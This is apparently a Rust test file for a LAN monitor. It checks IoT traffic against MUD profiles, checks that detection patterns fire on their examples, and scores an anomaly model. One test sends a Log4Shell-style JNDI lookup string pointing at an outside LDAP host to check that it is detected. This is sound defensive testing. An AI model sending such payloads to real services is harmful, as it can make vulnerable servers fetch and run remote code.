//! What `kernscope lan` holds devices against: MUD files and patterns, in captures and on interfaces.

use crate::lan::{capture, shared};
use crate::lan_daemons::{Running, have, mac_of, other_end};
use crate::lan_live::{BACKENDS, end, on_a_cable, start};
use crate::run::{Dir, checked, refused, run, stderr};
use serde_json::Value;
use std::net::UdpSocket;
use std::path::Path;
use std::time::Duration;

const LAMP: [u8; 6] = [0, 0x17, 0x88, 1, 2, 3];
const ROUTER: [u8; 6] = [0, 0x17, 0x88, 9, 9, 9];

/// A lamp may talk to its cloud at 443, and be asked at 8080 by its controller.
const MUD: &str = r#"{
  "ietf-mud:mud": {"mud-version": 1, "mud-url": "https://lamp.example/lamp.json", "systeminfo": "a lamp",
    "from-device-policy": {"access-lists": {"access-list": [{"name": "from"}]}},
    "to-device-policy": {"access-lists": {"access-list": [{"name": "to"}]}}},
  "ietf-access-control-list:acls": {"acl": [
    {"name": "from", "type": "ipv4-acl-type", "aces": {"ace": [{"name": "cloud", "matches": {
      "ipv4": {"ietf-acldns:dst-dnsname": "cloud.example", "protocol": 6},
      "tcp": {"destination-port": {"operator": "eq", "port": 443}}}, "actions": {"forwarding": "accept"}}]}},
    {"name": "to", "type": "ipv4-acl-type", "aces": {"ace": [{"name": "asked", "matches": {
      "ietf-mud:mud": {"my-controller": [null]},
      "tcp": {"destination-port": {"operator": "eq", "port": 8080}}}, "actions": {"forwarding": "accept"}}]}}]}}"#;

/// A packet of IPv4 in a frame, without check sums.
fn packet(from: ([u8; 6], [u8; 4]), to: ([u8; 6], [u8; 4]), protocol: u8, payload: &[u8]) -> Vec<u8> {
    let mut frame = [&to.0[..], &from.0, &[8, 0]].concat();
    let [high, low] = (20 + payload.len() as u16).to_be_bytes();
    frame.extend([0x45, 0, high, low, 0, 0, 0x40, 0, 64, protocol, 0, 0]);
    [&frame, &from.1[..], &to.1, payload].concat()
}

fn tcp(source: u16, target: u16, flags: u8, payload: &[u8]) -> Vec<u8> {
    let ports = [source.to_be_bytes(), target.to_be_bytes()].concat();
    [&ports, &[0, 0, 0, 1, 0, 0, 0, 0, 0x50, flags, 4, 0, 0, 0, 0, 0][..], payload].concat()
}

fn udp(source: u16, target: u16, payload: &[u8]) -> Vec<u8> {
    [&[source, target, 8 + payload.len() as u16, 0].map(u16::to_be_bytes).concat(), payload].concat()
}

/// An answer of DNS: cloud.example is at an address.
fn answer(ip: [u8; 4]) -> Vec<u8> {
    let head = b"\x12\x34\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00\x05cloud\x07example\x00\x00\x01\x00\x01";
    [&head[..], b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x01\x00\x00\x04", &ip].concat()
}

fn ping(kind: u8) -> Vec<u8> {
    vec![kind, 0, 0, 0, 0, 1, 0, 1]
}

/// A request for a lease that tells where the MUD file is.
fn discover(url: &str) -> Vec<u8> {
    let mut message = vec![1, 1, 6, 0, 1, 2, 3, 4];
    message.resize(28, 0);
    message.extend(LAMP);
    message.resize(236, 0);
    message.extend([99, 130, 83, 99, 53, 1, 1, 161, url.len() as u8]);
    message.extend(url.bytes());
    message.push(255);
    message
}

/// What a lamp does by which all is well, and then what it does not say in its file.
fn a_lamp_at_work() -> Vec<Vec<u8>> {
    let (lamp, cloud) = ((LAMP, [10, 0, 0, 7]), (ROUTER, [198, 51, 100, 1]));
    let (router, strange) = ((ROUTER, [10, 0, 0, 1]), (ROUTER, [203, 0, 113, 9]));
    vec![
        packet(
            (LAMP, [0; 4]),
            ([0xff; 6], [255; 4]),
            17,
            &udp(68, 67, &discover("https://lamp.example/lamp.json")),
        ),
        packet(router, lamp, 17, &udp(53, 40_000, &answer(cloud.1))),
        packet(lamp, cloud, 6, &tcp(40_000, 443, 2, &[])),
        packet(router, lamp, 6, &tcp(40_000, 8080, 2, &[])),
        packet(lamp, strange, 6, &tcp(40_001, 443, 2, &[])),
        packet(lamp, strange, 17, &udp(40_002, 6667, b"hello")),
        packet(strange, lamp, 6, &tcp(40_003, 8080, 2, &[])),
    ]
}

fn replayed(args: &[&str]) -> (Vec<Value>, String) {
    let output = run(&[&["lan", "replay", "--format", "jsonl"], args].concat());
    let records = checked(&String::from_utf8(output.stdout.clone()).expect("UTF-8"));
    (records, stderr(&output))
}

fn alerts(records: &[Value], rule: &str) -> Vec<String> {
    let of_rule = records.iter().filter(|record| record["kind"] == "alert" && record["rule"] == rule);
    of_rule.map(|alert| alert["message"].as_str().expect("a message").to_owned()).collect()
}

/// What a lamp may ask by ICMP, and which groups it may talk to.
#[test]
fn pings_and_groups_are_held_to_a_mud_file() {
    let dir = Dir::new("lan-mud-groups");
    let entry = r#"{"name": "ping", "matches": {"icmp": {"type": 8}, "ipv4": {"destination-ipv4-network": "198.51.100.0/24"}},
        "actions": {"forwarding": "accept"}}, {"name": "mdns", "matches": {"ipv4": {"destination-ipv4-network": "224.0.0.251/32",
        "protocol": 17}, "udp": {"destination-port": {"operator": "eq", "port": 5353}}}, "actions": {"forwarding": "accept"}},
        {"name": "cloud","#;
    std::fs::write(dir.path("lamp.json"), MUD.replacen("{\"name\": \"cloud\",", entry, 1)).expect("write");
    let (lamp, router) = ((LAMP, [10, 0, 0, 7]), (ROUTER, [10, 0, 0, 1]));
    let mdns = ([1, 0, 0x5e, 0, 0, 0xfb], [224, 0, 0, 251]);
    let ssdp = ([1, 0, 0x5e, 0x7f, 0xff, 0xfa], [239, 255, 255, 250]);
    let far = |address| (ROUTER, address);
    let frames = [
        // What it may: ping a network, and a neighbour; and be answered, or told that something is wrong.
        packet(lamp, far([198, 51, 100, 9]), 1, &ping(8)),
        packet(far([198, 51, 100, 9]), lamp, 1, &ping(0)),
        packet(lamp, router, 1, &ping(8)),
        packet(far([203, 0, 113, 9]), lamp, 1, &ping(3)),
        packet(lamp, mdns, 17, &udp(5353, 5353, b"who is here")),
        // What others send to a group is not its doing.
        packet(router, ssdp, 17, &udp(1900, 1900, b"NOTIFY")),
        // What it may not: ping elsewhere, ask for the time by ICMP, another group, another port of a group; and be pinged from afar.
        packet(lamp, far([203, 0, 113, 9]), 1, &ping(8)),
        packet(lamp, far([198, 51, 100, 9]), 1, &ping(13)),
        packet(lamp, ssdp, 17, &udp(1900, 40_000, b"M-SEARCH")),
        packet(lamp, ([255; 6], [255; 4]), 17, &udp(40_000, 6667, b"hello")),
        packet(far([192, 0, 2, 5]), lamp, 1, &ping(8)),
    ];
    let frames: Vec<_> = frames.iter().map(Vec::as_slice).collect();
    std::fs::write(dir.path("a.pcap"), capture(1, &frames)).expect("write");
    let mud = dir.text("lamp.json");
    let (records, said) =
        replayed(&["--mud", &mud, "--mud-device", "00:17:88:01:02:03=lamp", &dir.text("a.pcap")]);
    let mut told = alerts(&records, "profile");
    told.sort();
    let expected = [
        "outside its profile: 10.0.0.7 talks to 198.51.100.9 (198.51.100.0/24) at ICMP type 13 code 0",
        "outside its profile: 10.0.0.7 talks to 203.0.113.9 (203.0.113.0/24) at ping",
        "outside its profile: 10.0.0.7 talks to 239.255.255.250 at udp port 40000",
        "outside its profile: 10.0.0.7 talks to 255.255.255.255 at udp port 6667",
        "outside its profile: 192.0.2.5 (192.0.2.0/24) talks to 10.0.0.7 at ping",
    ];
    assert_eq!(told, expected, "{said}");
}

#[test]
fn a_device_is_held_to_its_mud_file() {
    let dir = Dir::new("lan-mud");
    let frames = a_lamp_at_work();
    let frames: Vec<_> = frames.iter().map(Vec::as_slice).collect();
    let (file, mud) = (dir.text("a.pcap"), dir.text("mud"));
    std::fs::write(&file, capture(1, &frames)).expect("write");
    std::fs::create_dir(&mud).expect("make a folder");
    std::fs::write(dir.path("mud/lamp.json"), MUD).expect("write");
    let outside = [
        "outside its profile: 10.0.0.7 talks to 203.0.113.9 (203.0.113.0/24) at udp port 6667",
        "outside its profile: 203.0.113.9 (203.0.113.0/24) talks to 10.0.0.7 at tcp port 8080",
    ];
    // By its own word, by the user's; the file or its folder.
    let (records, _) = replayed(&["--mud", &mud, &file]);
    assert_eq!(alerts(&records, "profile"), outside);
    let without: Vec<_> = frames[1..].to_vec();
    std::fs::write(dir.path("b.pcap"), capture(1, &without)).expect("write");
    let file_b = dir.text("b.pcap");
    let lamp = dir.text("mud/lamp.json");
    assert!(
        alerts(&replayed(&["--mud", &lamp, &file_b]).0, "profile").is_empty(),
        "it does not say what it is"
    );
    for name in ["lamp", "lamp.json", "https://lamp.example/lamp.json"] {
        let device = format!("00:17:88:01:02:03={name}");
        let (records, said) = replayed(&["--mud", &lamp, "--mud-device", &device, &file_b]);
        assert_eq!(alerts(&records, "profile"), outside, "{name}: {said}");
    }
    let (records, _) = replayed(&["--mud", &lamp, "--mud-controller", "my-controller=10.0.0.2", &file]);
    assert_eq!(alerts(&records, "profile").len(), 3, "the router is no controller");
    // An address of a file that is not there is shown, and nothing is fetched.
    std::fs::write(dir.path("mud/lamp.json"), MUD.replace("lamp.json", "other.json")).expect("write");
    let (records, _) = replayed(&["--mud", &mud, &file]);
    let coverage = records.iter().find(|record| record["kind"] == "coverage").expect("coverage").to_string();
    assert!(coverage.contains("00:17:88:01:02:03 tells https://lamp.example/lamp.json"), "{coverage}");
}

#[test]
fn what_devices_cannot_be_held_against_is_refused_in_one_line() {
    let dir = Dir::new("lan-looks-refuse");
    std::fs::write(dir.path("a.pcap"), capture(1, &[])).expect("write");
    std::fs::write(dir.path("bad.json"), "{\"ietf-mud:mud\": {}}").expect("write");
    std::fs::write(dir.path("lamp.json"), MUD).expect("write");
    std::fs::write(dir.path("rules.toml"), "[[rule]]\nid = 'a'\nregex = '('\n").expect("write");
    std::fs::create_dir(dir.path("empty")).expect("make a folder");
    let file = dir.text("a.pcap");
    let lamp = dir.text("lamp.json");
    for (args, said) in [
        (vec!["--mud", &dir.text("none.json")], "No such file"),
        (vec!["--mud", &dir.text("bad.json")], "no MUD file (RFC 8520)"),
        (vec!["--mud", &dir.text("empty")], "no *.json"),
        (vec!["--mud", &lamp, "--mud-device", "lamp"], "MAC=NAME"),
        (vec!["--mud", &lamp, "--mud-device", "00:17=lamp"], "hardware address"),
        (vec!["--mud", &lamp, "--mud-device", "00:17:88:01:02:03=lump"], "no file of --mud"),
        (vec!["--mud", &lamp, "--mud-controller", "my-controller"], "my-controller=192.0.2.7"),
        (vec!["--patterns", &dir.text("rules.toml")], "rules.toml"),
        (vec!["--model", &dir.text("none.onnx")], "No such file"),
        (vec!["--model", &dir.text("lamp.json")], "is no ONNX model"),
    ] {
        refused(&[&["lan", "replay"], &args[..], &[&file]].concat(), said);
    }
}

/// Where patterns stand in the repository.
fn patterns() -> String {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../contrib/patterns/lan.toml");
    path.canonicalize().expect("there").display().to_string()
}

#[test]
fn patterns_of_contrib_find_what_they_say_in_captures_and_nothing_in_devices_at_work() {
    let rules = kernscope_sieve::rules::RuleSet::read(Path::new(&patterns())).expect("rules");
    let dir = Dir::new("lan-patterns");
    let (from, to) = ((LAMP, [10, 0, 0, 7]), (ROUTER, [10, 0, 0, 1]));
    let mut smb = b"\x00\x00\x00\x2f".to_vec();
    smb.extend(b"\xffSMBr\x00\x00\x00\x00");
    let write = |name: &str, texts: &[Vec<u8>]| {
        let frames: Vec<_> =
            texts.iter().map(|text| packet(from, to, 6, &tcp(40_000, 80, 24, text))).collect();
        let frames: Vec<_> = frames.iter().map(Vec::as_slice).collect();
        std::fs::write(dir.path(name), capture(1, &frames)).expect("write");
        alerts(&replayed(&["--patterns", &patterns(), &dir.text(name)]).0, "pattern")
    };
    let (mut bad, mut good) = (Vec::new(), Vec::new());
    for rule in &rules.rules {
        let shown = rule.examples.iter().map(|text| text.as_bytes().to_vec());
        let examples: Vec<_> =
            if rule.id == "smb1-negotiation" { vec![smb.clone()] } else { shown.collect() };
        assert!(!examples.is_empty(), "{}", rule.id);
        bad.extend(examples);
        good.extend(rule.counter_examples.iter().map(|text| text.as_bytes().to_vec()));
    }
    let told = write("bad.pcap", &bad);
    for rule in &rules.rules {
        assert!(
            told.iter().any(|message| message.contains(&format!("{:?}", rule.id))),
            "{}: {told:?}",
            rule.id
        );
    }
    assert_eq!(told.len(), rules.rules.len());
    assert_eq!(write("good.pcap", &good), [""; 0]);
    for below in ["iot-sentinel/HueBridge", "iot-sentinel/WeMoSwitch", "pcap/tcpdump", "pcap/mercury"] {
        let Some(files) = shared(below) else { continue };
        let files: Vec<_> = files.iter().map(|file| file.display().to_string()).collect();
        let mut args = vec!["--patterns".to_owned(), patterns()];
        args.extend(files);
        let args: Vec<_> = args.iter().map(String::as_str).collect();
        assert_eq!(alerts(&replayed(&args).0, "pattern"), [""; 0], "{below}");
    }
}

/// By programs in the kernel most frames are only counted; what is in them is found all the same, and as by a packet socket.
#[test]
fn patterns_are_found_on_an_interface_whatever_sees_the_frames() {
    let test = "patterns_are_found_on_an_interface_whatever_sees_the_frames";
    if !have(test, &["unshare", "nsenter", "ip"]) {
        return;
    }
    on_a_cable(test, || {
        let (holder, inside) = other_end();
        Running::new("ip addr add 10.5.5.2/24 dev right").finish();
        let left = mac_of("left", &inside);
        let socket = UdpSocket::bind("10.5.5.2:0").expect("bind");
        let patterns = patterns();
        for backend in BACKENDS {
            let child = start(&["--backend", backend, "--no-db", "--patterns", &patterns]);
            // Of one flow and one length: but for the first they say nothing new.
            for n in 0..40 {
                let text =
                    if n == 30 { b"${jndi:ldap://192.0.2.7/a}" } else { b"$(jndi:ldap://192.0.2.7/a)" };
                socket.send_to(text, "10.5.5.1:9999").expect("send");
                std::thread::sleep(Duration::from_millis(5));
            }
            std::thread::sleep(Duration::from_millis(300));
            let records = end(child);
            let told: Vec<_> = records.iter().filter(|record| record["rule"] == "pattern").collect();
            let [alert] = told[..] else { panic!("{backend}: {told:?}") };
            assert_eq!((&alert["count"], &alert["severity"]), (&1.into(), &"high".into()), "{alert}");
            assert!(alert["message"].to_string().contains("10.5.5.2 sends 10.5.5.1"), "{alert}");
            assert_ne!(alert["mac"].to_string(), left, "the sender is told");
            assert!(!alert.to_string().contains("192.0.2.7"), "what was found is not told: {alert}");
            let coverage = records.iter().find(|record| record["kind"] == "coverage").expect("coverage");
            let has_filter = coverage["hooks"].to_string().contains("socket filter");
            assert_eq!(has_filter, backend == "xdp", "{coverage}");
        }
        drop(holder);
    });
}

/// The example in the repository: devices that are set up score low, and one that asks the whole network scores high.
#[test]
fn the_model_of_contrib_tells_what_is_unlike_its_captures() {
    let model = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../contrib/models/intervals.onnx");
    let model = model.canonicalize().expect("there").display().to_string();
    let dir = Dir::new("lan-model");
    let from = (LAMP, [10, 0, 0, 7]);
    let calls: Vec<_> = (0..2_000u16)
        .map(|n| {
            let [high, low] = n.to_be_bytes();
            packet(from, (ROUTER, [198, 51, high, low]), 6, &tcp(40_000, 1_000 + n, 2, &[]))
        })
        .collect();
    let calls: Vec<_> = calls.iter().map(Vec::as_slice).collect();
    std::fs::write(dir.path("a.pcap"), capture(1, &calls[..290])).expect("write");
    let (records, said) = replayed(&["--model", &model, &dir.text("a.pcap")]);
    let told = alerts(&records, "model");
    assert!(told.len() == 1 && told[0].contains("above 0.5"), "{told:?} {said}");
    let (records, _) = replayed(&["--model", &model, "--model-threshold", "1", &dir.text("a.pcap")]);
    assert_eq!(alerts(&records, "model"), [""; 0]);
}

/// All that is looked for at once, on captures in which nothing is wrong: of what is told at all, only the model tells it, and seldom.
#[test]
fn devices_at_work_raise_no_alert_with_everything_on() {
    let Some(folders) = shared("iot-sentinel") else { return };
    let model = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../contrib/models/intervals.onnx");
    let files = folders.iter().filter_map(|folder| std::fs::read_dir(folder).ok()).flatten();
    let files: Vec<_> =
        files.filter_map(Result::ok).map(|entry| entry.path().display().to_string()).collect();
    let mut args =
        vec!["--patterns".to_owned(), patterns(), "--model".to_owned(), model.display().to_string()];
    args.extend(files.iter().cloned());
    let args: Vec<_> = args.iter().map(String::as_str).collect();
    let (records, said) = replayed(&args);
    let told: Vec<_> = records.iter().filter(|record| record["kind"] == "alert").collect();
    let others: Vec<_> = told.iter().filter(|alert| alert["rule"] != "model").collect();
    assert!(others.is_empty(), "{others:?} {said}");
    let devices = records.iter().filter(|record| record["kind"] == "device").count();
    assert!(told.len() * 50 < devices, "{} of {devices}", told.len());
}
